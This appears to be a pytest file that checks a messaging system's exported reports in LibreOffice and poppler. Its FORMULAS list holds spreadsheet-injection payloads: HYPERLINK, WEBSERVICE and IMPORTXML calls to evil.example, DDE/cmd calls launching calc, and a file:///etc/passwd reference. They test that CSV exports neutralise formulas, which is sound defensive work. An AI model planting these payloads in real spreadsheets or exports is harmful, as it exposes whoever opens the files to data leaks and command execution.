"""Reports opened by programs that are not ours: LibreOffice and poppler (X3, U8, B4-09).

LibreOffice takes seconds to start: each test starts it once, for several files.
"""

import csv
import re
import subprocess
from pathlib import Path

import pytest
from lxml import etree

from messenger.models import Message
from sentlog.reports.document import WORK_LIST, ReportOptions
from sentlog.reports.writing import write_report
from tests.sentlog.printed import CELL, program, read_by_poppler
from tests.sentlog.rows import Ledger, make_message, make_person

pytestmark = pytest.mark.usefixtures("district")

FORMULAS = [
    '=HYPERLINK("http://evil.example","x")',
    "=1+1",
    "=cmd|'/c calc'!A1",
    "=SUM(A1:A9)",
    '=WEBSERVICE("http://evil.example")',
    '=IMPORTXML("http://evil.example","//a")',
    '=IMAGE("http://evil.example/x.png")',
    '=DDE("cmd";"/c calc";"x")',
    "=A1",
    "='file:///etc/passwd'#$x.A1",
    "+1+1",
    "+A1",
    "+SUM(1)",
    "-1-1",
    "-2+3+cmd|' /c calc'!A1",
    "-A1",
    "@SUM(1+1)",
    "@A1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " =1+1",
    "＝1+1",
    "＋1+1",
    "－1-1",
    "＠SUM(1)",
    "|calc",
    "%0A=1+1",
    '"=1+1',
    "'=1+1",
    ";=1+1",
    ",=1+1",
    "=1+1\x00",
    "{=1+1}",
]


def convert(files: list[Path], to: str, folder: Path, *more: str) -> None:
    """One start of LibreOffice for all files; a profile of its own, so that tests do not wait."""
    command = [
        program("soffice"),
        f"-env:UserInstallation=file://{folder}/profile",
        "--headless",
        *more,
        "--convert-to",
        to,
        "--outdir",
        str(folder),
        *map(str, files),
    ]
    subprocess.run(command, check=True, capture_output=True, timeout=180)


def hostile(rows: list[str]) -> Message:
    message = make_message(subject=FORMULAS[0], voice_text=FORMULAS[1])
    ledger = Ledger(message)
    for number, text in enumerate(rows):
        name = text.replace("\x00", "")  # PostgreSQL takes none
        person = make_person(name)
        person.family_name, person.given_name = name, "x"
        person.save()
        ledger.add(
            person,
            "voice",
            f"+1612555{number:04d}",
            student=person,
            outcome="failed",
            code=-2,
        )
    return message


def test_a_spreadsheet_finds_no_formula_and_no_link(tmp_path: Path) -> None:
    assert len(FORMULAS) >= 30
    message = hostile(FORMULAS)
    files = [tmp_path / f"{name}.csv" for name in ("report", "failures", "naked")]
    write_report(message, "csv", files[0])
    write_report(message, "csv", files[1], ReportOptions(detail=WORK_LIST, bom=False))
    with files[2].open("w", newline="") as file:
        csv.writer(file).writerows([text, "x"] for text in FORMULAS if "\x00" not in text)
    # 44, 34, 76: comma, quotation mark, UTF-8; all columns as a spreadsheet guesses them; formulas
    # are evaluated, as when somebody opens the file by a double click.
    options = "44,34,76,1,,0,false,true,false,false,false,0,true"
    convert(files, "fods", tmp_path, f"--infilter=CSV:{options}")

    def found(name: str) -> tuple[int, int]:
        sheet = etree.parse(tmp_path / f"{name}.fods")
        formulas = sheet.xpath("count(//@*[local-name()='formula'])")
        links = sheet.xpath("count(//*[local-name()='a' or local-name()='table-source'])")
        return int(formulas), int(links)

    assert found("naked")[0] > 5, "unguarded, the same words are formulas: the test sees them"
    assert found("report") == (0, 0)
    assert found("failures") == (0, 0)
    shown = (tmp_path / "report.fods").read_text(encoding="utf-8")
    assert "-2 Invalid Phone #" in shown


@pytest.mark.spec("B4-09")
def test_libreoffice_opens_the_document_as_it_was_meant(tmp_path: Path) -> None:
    message = make_message(subject="Schule geschlossen – مدرسة 学校")
    ledger = Ledger(message)
    for number in range(140):
        person = make_person(f"Family{number:03d}, Nguyễn 王 شيماء")
        ledger.add(person, "voice", f"+1612555{number:04d}", outcome="successful", code=5)
    word = tmp_path / "report.docx"
    write_report(message, "docx", word)
    convert([word], "pdf", tmp_path)
    pages = read_by_poppler(tmp_path / "report.pdf").rstrip("\f").split("\f")
    assert len(pages) >= 3
    for number, page in enumerate(pages, start=1):
        assert f"Page {number} of {len(pages)}" in page
        assert re.search(r"Recipient\s+Student\s+Delivery Device\s+Status\s+Time", page)
    words = "".join(pages)
    assert all(f"Family{number:03d}" in words for number in range(140))
    assert "5 Live Person" in words
    assert "学校" in words


@pytest.mark.spec("B4-09")
def test_poppler_draws_every_page(tmp_path: Path) -> None:
    message = make_message(subject="A " + "very " * 30 + "long subject")
    ledger = Ledger(message)
    for number in range(90):
        ledger.add(make_person(f"Family{number:03d}, Parent"), "voice", f"+1612555{number:04d}")
    ledger.add(make_person("كهن, שרה 王 Nguyễn አበበ"), "voice", CELL)
    target = tmp_path / "report.pdf"
    write_report(message, "pdf", target)
    command = [program("pdftoppm"), "-r", "40", "-gray", str(target), str(tmp_path / "page")]
    done = subprocess.run(command, check=True, capture_output=True, timeout=60)
    assert done.stderr == b"", "poppler has nothing to say about fonts or syntax"
    pictures = sorted(tmp_path.glob("page*.pgm"))
    assert len(pictures) >= 2
    for picture in pictures:
        assert min(picture.read_bytes()[20:]) < 128, "something is printed"
    words = read_by_poppler(target)
    assert words.count("very") >= 30
    assert f"Page {len(pictures)} of" in words
